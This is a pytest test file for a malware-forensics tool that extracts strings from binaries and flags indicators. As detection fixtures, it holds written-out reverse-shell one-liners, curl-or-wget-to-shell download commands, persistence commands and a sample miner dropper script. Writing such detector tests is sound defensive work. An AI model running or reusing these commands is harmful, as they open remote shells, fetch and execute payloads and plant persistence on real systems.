"""Strings and indicators: each pattern on a line that should hit and one that should not."""

from __future__ import annotations

import pytest

from forensics.binary.analyze import Options, analyse_bytes
from forensics.binary.indicators import string_indicators, verdict
from forensics.binary.records import Capability, FoundString, IndicatorKind, PackerSign
from forensics.binary.strings import MAX_STRING, iter_strings

NATIVE = Options(radare2=False, file_tool=False)


def _kinds(*texts: str) -> set[tuple[IndicatorKind, str]]:
    found, _cut = string_indicators([FoundString(i * 100, "ascii", t) for i, t in enumerate(texts)])
    return {(i.kind, i.value) for i in found}


def test_strings_ascii_and_utf16_with_offsets() -> None:
    data = b"\x00\x01hello world\x00\x02" + "wide string".encode("utf-16-le") + b"\x00\x00abc\x00"
    found = list(iter_strings(data))
    assert [(s.offset, s.encoding, s.text) for s in found] == [
        (2, "ascii", "hello world"),
        (15, "utf-16le", "wide string"),
    ]


def test_the_tail_of_an_ascii_string_is_not_read_as_utf16() -> None:
    data = b"\x00ascii1\x00" + "wide string".encode("utf-16-le") + b"\x00\x00"
    assert [s.text for s in iter_strings(data)] == ["ascii1", "wide string"]


def test_a_long_run_is_cut() -> None:
    (found,) = list(iter_strings(b"A" * (MAX_STRING * 3)))
    assert len(found.text) == MAX_STRING


@pytest.mark.parametrize(
    "line, kind",
    [
        ("stratum+tcp://xmr.pool.example:3333", IndicatorKind.MINING_POOL),
        ("stratum+ssl://pool.example:443", IndicatorKind.MINING_POOL),
        ("gulf.moneroocean.stream:10128", IndicatorKind.MINING_POOL),
        ("--donate-level=1", IndicatorKind.MINER),
        ('{"algo": "randomx"}', IndicatorKind.MINER),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", IndicatorKind.REVERSE_SHELL),
        ("nc -e /bin/sh 10.0.0.1 4444", IndicatorKind.REVERSE_SHELL),
        ("ncat 10.0.0.1 4444 -e /bin/bash", IndicatorKind.REVERSE_SHELL),
        ("/bin/sh -i", IndicatorKind.REVERSE_SHELL),
        ("python -c 'import socket,subprocess,os;s=socket.socket()'", IndicatorKind.REVERSE_SHELL),
        ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", IndicatorKind.REVERSE_SHELL),
        ("perl -e 'use Socket;$i=\"10.0.0.1\"'", IndicatorKind.REVERSE_SHELL),
        ("socat tcp:10.0.0.1:4444 exec:/bin/sh", IndicatorKind.REVERSE_SHELL),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
            IndicatorKind.REVERSE_SHELL,
        ),
        ("curl -fsSL http://203.0.113.9/x.sh | bash", IndicatorKind.DOWNLOAD_EXEC),
        ("wget -q -O- http://x.example.ru/a | sh", IndicatorKind.DOWNLOAD_EXEC),
        ("./xmrig --config=config.json", IndicatorKind.OFFENSIVE_TOOL),
        ("curl -L https://x/linpeas.sh", IndicatorKind.OFFENSIVE_TOOL),
        ("github.com/fatedier/frp/client", IndicatorKind.OFFENSIVE_TOOL),
        ("./chisel client 10.0.0.1:8000 R:socks", IndicatorKind.OFFENSIVE_TOOL),
        ("gs-netcat -s secret -i", IndicatorKind.OFFENSIVE_TOOL),
        ("/tmp/kdevtmpfsi", IndicatorKind.OFFENSIVE_TOOL),
        ("echo key >> /root/.ssh/authorized_keys", IndicatorKind.PERSISTENCE),
        ("/etc/ld.so.preload", IndicatorKind.PERSISTENCE),
        ("systemctl enable updater", IndicatorKind.PERSISTENCE),
        ("* * * * * root /tmp/x > /etc/cron.d/x", IndicatorKind.PERSISTENCE),
        ("http://198.51.100.4:8080/payload", IndicatorKind.URL),
        ("connect to 8.8.8.8", IndicatorKind.IPV4),
        ("c2.evil-domain.xyz", IndicatorKind.DOMAIN),
    ],
)
def test_pattern_hits(line: str, kind: IndicatorKind) -> None:
    assert kind in {k for k, _v in _kinds(line)}, _kinds(line)


@pytest.mark.parametrize(
    "line",
    [
        "GLIBC_2.2.5",  # not an address
        "version 1.2.3.4.5",  # dotted numbers longer than an address
        "chiseled marble",  # tool names only as whole words
        "interfrpc",
        "libc.so.6",  # no TLD we list
        "printf usage: nc [-options] hostname port",  # nc without -e
        "the process was stratified",
    ],
)
def test_pattern_misses(line: str) -> None:
    strong = {(k, v) for k, v in _kinds(line) if k.strong or k is IndicatorKind.IPV4}
    assert not strong, strong


def test_wallets_only_with_a_valid_checksum() -> None:
    monero = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
    valid = ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", monero]
    broken = ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdr", monero[:90]]
    found = _kinds(*[f"pay to {w} now" for w in valid + broken])
    wallets = {v for k, v in found if k is IndicatorKind.WALLET}
    assert wallets == set(valid)


def test_offsets_point_at_the_match_in_the_file() -> None:
    data = (
        b"\x00" * 64
        + b"run: bash -i >& /dev/tcp/192.0.2.1/53 0>&1\x00"
        + "xmrig".encode("utf-16-le")
        + b"\0\0"
    )
    report = analyse_bytes(data, "mem", options=NATIVE)
    shell = next(i for i in report.indicators if i.value == "/dev/tcp/192.0.2.1/53")
    assert data[shell.offset : shell.offset + len(shell.value)] == shell.value.encode()
    tool = next(i for i in report.indicators if i.kind is IndicatorKind.OFFENSIVE_TOOL)
    assert data[tool.offset : tool.offset + 10] == "xmrig".encode("utf-16-le")
    assert tool.detail == "Monero miner"


def test_a_shell_script_gets_the_same_indicators() -> None:
    script = b"#!/bin/sh\ncd /tmp && wget http://203.0.113.5/xmrig && chmod +x xmrig\n./xmrig -o stratum+tcp://p.example:3333\n"
    report = analyse_bytes(script, "dropper.sh", options=NATIVE)
    assert report.file_type.kind == "script"
    assert report.verdict.suspicious
    assert {"mining pool URL or host", "offensive tool name (xmrig)"} <= set(report.verdict.reasons)


def test_repeats_are_counted_once() -> None:
    found, _ = string_indicators([FoundString(i, "ascii", "/dev/tcp/10.9.9.9/1") for i in range(0, 50, 10)])
    (shell,) = [i for i in found if i.kind is IndicatorKind.REVERSE_SHELL]
    assert shell.count == 5 and shell.offset == 0


def test_verdict_levels() -> None:
    assert verdict([], [], []).line == "no indicators"
    packed = verdict([], [], [PackerSign("high-entropy", "7.9"), PackerSign("no-section-headers", "")])
    assert packed.suspicious and packed.reasons[0].startswith("likely packed")
    notable = verdict([], [Capability("ptrace", ("ptrace",))], [PackerSign("high-entropy", "7.9")])
    assert notable.line == "notable: high entropy, ptrace use"
